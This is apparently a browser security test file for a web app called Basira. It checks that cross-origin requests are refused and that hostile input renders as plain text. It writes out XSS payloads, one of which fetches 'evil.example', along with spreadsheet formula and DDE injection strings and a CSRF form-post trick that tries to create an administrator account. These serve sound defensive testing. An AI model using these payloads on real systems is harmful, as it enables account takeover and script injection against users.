import { mkdtempSync, rmSync } from 'node:fs';
import type { Server } from 'node:http';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { redact } from '#server/domain/text/redact.ts';
import { settling } from '#tests/browser/settled.mjs';
import { joinFirst } from '#tests/browser/sign-in.ts';
import { startBrowser } from '#tests/browser/start.ts';
import { visit } from '#tests/browser/visit.ts';
import type { RunningServer } from '../integration/faults/server-process.ts';
import { endAll, startServer } from '../integration/faults/server-process.ts';

/** Texts that become script, markup, a formula or a turned line where somebody forgets that they are only texts. */
const HOSTILE = [
  '<script>window.pwned=1;alert(1)</script>',
  '"><img src=x onerror="window.pwned=1;fetch(\'https://evil.example/\')">',
  "'-alert(1)-'</title><svg onload=alert(1)>",
  'javascript:alert(1)//{{7*7}}${7*7}',
  '\u202Eeducation\u202C\u2067 =HYPERLINK("https://evil.example")',
  `=cmd|' /C calc'!A0 @SUM(1) +1 -1`,
  'x'.repeat(120),
] as const;

const LONG = 'w'.repeat(10_000);

const PAGES =
  '/ /metric?metric=nps /channels /people /keys /data /settings /account /import /records?metric=volume /records?search=education /themes /names /assignments /assignments/rules/new /erasures /perception /alerts /alerts/1 /follow-ups /loops /loops/new /review /report /reports /my-work /settings/alert-rules /settings/alert-rules/new /settings/notices /settings/delivery /settings/ladder /settings/operations'.split(
    ' ',
  );

let folder = '';
let server: RunningServer;
let browser: Browser;
let context: BrowserContext;
let foreign: Server;
let foreignUrl = '';
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'basira-hostile-'));
  [server, browser] = await Promise.all([
    startServer(join(folder, 'data'), '--empty'),
    startBrowser(),
  ]);
  context = await browser.newContext({ viewport: { width: 1440, height: 900 }, locale: 'en' });
  const page = await context.newPage();
  await joinFirst(page, server.url, server.firstToken ?? '');
  await page.close();
  foreign = createServer((_, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end('<!doctype html><title>elsewhere</title><body></body>');
  });
  await new Promise<void>((resolve) => {
    foreign.listen(0, '127.0.0.1', resolve);
  });
  const at = foreign.address();
  foreignUrl = `http://127.0.0.1:${typeof at === 'object' && at ? at.port : 0}`;
}, 120_000);
afterAll(async () => {
  foreign.close();
  await browser.close();
  await endAll();
  rmSync(folder, { recursive: true, force: true });
});

/** Asks as Basira's own page does; gives status and answer. */
function askFrom(page: Page, method: string, path: string, body?: unknown): Promise<Asked> {
  return page.evaluate(
    async ([how, where, what]) => {
      const response = await fetch(where, {
        method: how,
        headers: { 'x-basira': '1', 'content-type': 'application/json' },
        ...(what === null ? {} : { body: what }),
      });
      return { status: response.status, text: await response.text() };
    },
    [method, path, body === undefined ? null : JSON.stringify(body)] as const,
  );
}
type Asked = { status: number; text: string };

/** Sends records as a program does; they must be taken. */
async function batchOf(page: Page, records: readonly object[]): Promise<void> {
  const told = await page.evaluate(
    async (body) => {
      const response = await fetch('/api/batches', {
        method: 'POST',
        headers: {
          'x-basira': '1',
          'content-type': 'application/json',
          'idempotency-key': `h${body.length}`,
        },
        body,
      });
      return `${response.status} ${await response.text()}`;
    },
    JSON.stringify({ source: 'desk', records }),
  );
  expect(told).toMatch(/^200 /);
}

/** Path of the first alert, once the server has raised it. */
async function firstAlert(page: Page): Promise<string> {
  const until = Date.now() + 30_000;
  for (;;) {
    const { text } = await askFrom(page, 'GET', '/api/alerts');
    // The contract's shape.
    const [alert] = (JSON.parse(text) as { alerts: { id: number }[] }).alerts;
    if (alert) return `/api/alerts/${alert.id}`;
    if (Date.now() > until) throw new Error(`no alert was raised: ${text}`);
    await page.waitForTimeout(250);
  }
}

const DAY = 86_400_000;
const RULE = {
  metric: null,
  scope: null,
  each: null,
  condition: { kind: 'burst', score: 6, atLeast: 1000 },
  grain: 'day',
  minimumN: 0,
  duration: 1,
  severity: 'watch',
  endsItself: true,
  isOn: true,
};

describe('a page of another origin in the browser of somebody who is signed in', () => {
  it('changes nothing, reads nothing and frames nothing, though the cookie travels with its requests', async () => {
    const own = await context.newPage();
    await own.goto(server.url);
    const settings = async () => (await askFrom(own, 'GET', '/api/organisation')).text;
    const people = async () => (await askFrom(own, 'GET', '/api/people')).text;
    const [settingsBefore, peopleBefore] = [await settings(), await people()];
    const page = await context.newPage();
    const asked: Promise<Record<string, string>>[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(server.url)) asked.push(request.allHeaders());
    });
    await page.goto(foreignUrl);
    const found = await page.evaluate(async (url) => {
      const person = JSON.stringify({
        email: 'evil@example.org',
        name: 'Evil',
        rights: { role: 'administrator', departments: [] },
      });
      const tries: string[] = [];
      const attempt = async (name: string, path: string, init: RequestInit) => {
        const answer = await fetch(url + path, { credentials: 'include', ...init }).then(
          async (response) => `${response.type} ${response.status} ${await response.text()}`,
          () => 'refused',
        );
        tries.push(`${name}: ${answer}`);
      };
      await attempt('read', '/api/people', {});
      await attempt('read blind', '/api/people', { mode: 'no-cors' });
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
        const headers = { 'content-type': type };
        const write = { method: 'POST', headers, body: person };
        await attempt(`write ${type}`, '/api/people', write);
        await attempt(`write blind ${type}`, '/api/people', { ...write, mode: 'no-cors' });
      }
      await attempt('own header', '/api/people', {
        method: 'POST',
        headers: { 'x-basira': '1', 'content-type': 'application/json' },
        body: person,
      });
      await attempt('patch', '/api/organisation', { method: 'PATCH', body: '{"currency":"XXX"}' });
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
      });
      let framed: string;
      try {
        framed = frame.contentDocument === null ? 'shut' : 'empty';
      } catch {
        framed = 'shut';
      }
      const script = document.createElement('script');
      script.src = `${url}/api/session`;
      const loaded = new Promise<string>((resolve) => {
        script.addEventListener('load', () => resolve('loaded'));
        script.addEventListener('error', () => resolve('refused'));
      });
      document.body.append(script);
      return { tries, framed, script: await loaded, seen: document.body.innerText };
    }, server.url);
    for (const told of found.tries) expect(told).toMatch(/: (refused|opaque 0 ?)$/);
    expect(found.script).toBe('refused');
    expect(found.seen).toBe('');
    // A form needs no script to be allowed by anybody.
    await page.evaluate((url) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.enctype = 'text/plain';
      form.action = `${url}/api/people`;
      const field = document.createElement('input');
      field.name =
        '{"email":"evil@example.org","name":"Evil","rights":{"role":"administrator"},"x":"';
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      form.submit();
    }, server.url);
    await page.waitForURL(`${server.url}/api/people`);
    expect(await page.textContent('body')).toContain('HOST_REFUSED');
    // The requests were made as the person: two ports of one machine are one site.
    const headers = await Promise.all(asked);
    expect(headers.some((sent) => 'cookie' in sent)).toBe(true);
    const frames = page.frames().map((frame) => frame.url());
    expect(frames.filter((url) => url.startsWith(server.url))).toEqual([
      `${server.url}/api/people`,
    ]);
    expect([await settings(), await people()]).toEqual([settingsBefore, peopleBefore]);
    await page.close();
    await own.close();
  });
});

describe('hostile texts', () => {
  it('of people, keys, departments, themes, rules, silences, receivers, alerts, sources, records, customers and the organisation stay texts on every page, in both directions', async () => {
    const page = await context.newPage();
    const troubles: string[] = [];
    page.on('dialog', (dialog) => {
      troubles.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(server.url) && !url.startsWith('data:')) troubles.push(`request ${url}`);
    });
    const settled = settling(page);
    page.on('pageerror', (error) => troubles.push(error.message));
    page.on('console', (message) => {
      if (/Content Security Policy|Refused/.test(message.text())) troubles.push(message.text());
    });
    await page.goto(server.url);
    const sent = async (method: string, path: string, body: unknown): Promise<void> => {
      const { status, text } = await askFrom(page, method, path, body);
      expect([path, status < 300, text]).toEqual([path, true, text]);
    };
    for (const [i, text] of HOSTILE.entries()) {
      const name = text.slice(0, 120);
      const address = text.replaceAll(/[\s@]/g, '');
      const rights = { role: 'head', departments: [text.slice(0, 200)] };
      await sent('POST', '/api/people', { email: `${i}${address}@example.org`, name, rights });
      await sent('POST', '/api/keys', { name, scopes: { ingest: [name.slice(0, 100)] } });
    }
    const batch = HOSTILE.map((text, i) => ({
      kind: 'case',
      externalId: text.slice(0, 100) + String(i),
      at: new Date(Date.now() - 9 * 86_400_000).toISOString(),
      customer: text.slice(0, 100),
      dimensions: { department: text.slice(0, 100), channel: text.slice(0, 100) },
      fields: { text, status: text.slice(0, 60) },
    }));
    // A word that no line can hold.
    const long = { externalId: 'long', customer: 'long' };
    const [first] = batch;
    if (!first) throw new Error('there is nothing to send');
    batch.push({ ...first, ...long, fields: { text: LONG, status: 'open' } });
    // Markup, a turned line, a formula, and the long word.
    const told = [batch[1], batch[4], batch[5], batch[7]].filter((one) => one !== undefined);
    const addresses = told.flatMap(({ externalId, customer }) => [
      `/records/case/desk/${encodeURIComponent(externalId)}`,
      `/customers/${encodeURIComponent(customer)}`,
    ]);
    await batchOf(page, batch);
    const both = { en: HOSTILE[0], ar: HOSTILE[1] };
    await sent('POST', '/api/assignment-rules', {
      name: HOSTILE[1].slice(0, 120),
      isOn: true,
      condition: { sources: [], kinds: ['case'], dimensions: [], words: ['education'] },
      sets: { department: HOSTILE[2].slice(0, 100) },
    });
    const theme = { en: 'zzz', ar: 'ززز' };
    const { version } = await page.evaluate(
      // The contract's shape.
      async () => (await (await fetch('/api/themes')).json()) as { version: number },
    );
    const phrases = { en: [theme.en], ar: [theme.ar] };
    await sent('PUT', '/api/themes', {
      version,
      themes: [{ key: 'zzz', name: both, parent: null, phrases, except: { en: [], ar: [] } }],
    });
    const day = (days: number) =>
      new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
    await sent('POST', '/api/beliefs', {
      name: both,
      from: day(-1),
      to: day(3),
      customersFrom: day(-9),
      topics: [{ wording: both, metric: null, isSameWording: false }],
    });
    await sent('PATCH', '/api/sources/desk', { name: both });
    await sent('PATCH', '/api/organisation', { name: both });
    for (const [i, text] of HOSTILE.entries()) {
      const name = { en: text.slice(0, 120), ar: text.slice(0, 120) };
      await sent('POST', '/api/alert-rules', { ...RULE, name });
      await sent('POST', '/api/silences', {
        department: null,
        theme: null,
        rule: i + 1,
        from: new Date(Date.now() + DAY).toISOString(),
        to: new Date(Date.now() + 2 * DAY).toISOString(),
        reason: i === 0 ? LONG.slice(0, 500) : text,
      });
      await sent('POST', '/api/receivers', {
        name: text.slice(0, 80),
        kind: 'webhook',
        address: `https://127.0.0.1/${encodeURIComponent(text).slice(0, 300)}`,
        language: 'en',
        leastSeverity: 'grave',
        departments: null,
        isOn: true,
      });
    }
    await batchOf(page, [
      {
        ...first,
        externalId: `${HOSTILE[0]} danger`,
        at: new Date().toISOString(),
        fields: { text: `danger to life ${HOSTILE[1]}`, status: 'open' },
      },
    ]);
    const alert = await firstAlert(page);
    for (const text of [...HOSTILE, LONG.slice(0, 2000)]) {
      await sent('POST', `${alert}/comment`, { text });
    }
    await sent('POST', `${alert}/resolve`, { reason: HOSTILE[1] });
    await sent('POST', `${alert}/reopen`, { reason: HOSTILE[4] });
    // What is longer than may be is refused with the reason, not cut in silence.
    const refused = await askFrom(page, 'POST', `${alert}/comment`, { text: LONG });
    expect([refused.status, refused.text]).toEqual([400, expect.stringContaining('2000')]);
    const department = encodeURIComponent(HOSTILE[1].slice(0, 100));
    await sent('PATCH', `/api/dimensions/department/${department}`, { name: both });
    for (const language of ['en', 'ar'] as const) {
      await page.evaluate((wanted) => {
        localStorage.setItem(
          'basira.preferences',
          JSON.stringify({ language: wanted, digits: 'latn', theme: 'system' }),
        );
      }, language);
      await page.setViewportSize({ width: language === 'ar' ? 360 : 1440, height: 900 });
      await page.goto(server.url);
      await settled();
      for (const path of [...PAGES, ...addresses]) {
        await visit(page, path);
        // On a phone the ways are folded away.
        await page.locator('nav').first().waitFor({ state: 'attached' });
        await settled();
        const planted = await page.evaluate(() => ({
          ran: 'pwned' in window,
          markup: document.querySelectorAll('main script, main img[src="x"], main svg[onload]')
            .length,
          wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
        }));
        expect([path, language, planted]).toEqual([
          path,
          language,
          { ran: false, markup: 0, wide: 0 },
        ]);
      }
      await page.goto(server.url + alert.replace('/api', ''));
      await page.locator('main li').first().waitFor();
      const comments = (await page.textContent('main')) ?? '';
      for (const text of HOSTILE) expect(comments).toContain(redact(text));
      await page.goto(`${server.url}/people`);
      await page.getByText('@example.org').first().waitFor();
      const shown = (await page.textContent('main')) ?? '';
      for (const text of HOSTILE) expect(shown).toContain(text.slice(0, 120));
    }
    expect(troubles).toEqual([]);
    await page.close();
  });
});
